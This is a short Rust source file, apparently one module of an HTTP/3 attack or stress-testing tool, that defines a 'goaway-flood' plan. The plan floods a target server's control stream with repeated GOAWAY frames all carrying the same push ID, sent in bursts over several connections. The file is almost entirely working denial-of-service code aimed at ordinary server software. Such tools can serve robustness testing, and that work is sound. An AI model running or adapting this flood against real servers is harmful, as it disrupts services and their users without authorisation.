//! Endless GOAWAY frames on the control stream.

use crate::attack::{Plan, Victim};
use crate::http;

use super::{Crowd, crowd};

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "goaway-flood",
    labels: &["A86"],
    summary: "endless GOAWAY frames, all with the same push ID",
    victim: Victim::Server,
    make: || Box::new(goaway_flood()),
};

fn goaway_flood() -> Crowd {
    Crowd::new(2, |connection, progress, _| {
        let id = http::uni_stream(http::CONTROL);
        let bytes = http::frame(http::GOAWAY, &[0]).repeat(300);
        for _ in 0..BURST {
            connection.push_bytes(http::stream(id, progress.control, &bytes, false));
            progress.control += bytes.len() as u64;
        }
    })
    .with_begin(crowd::preface)
}

/// Packets of one connection in one turn.
const BURST: usize = 8;
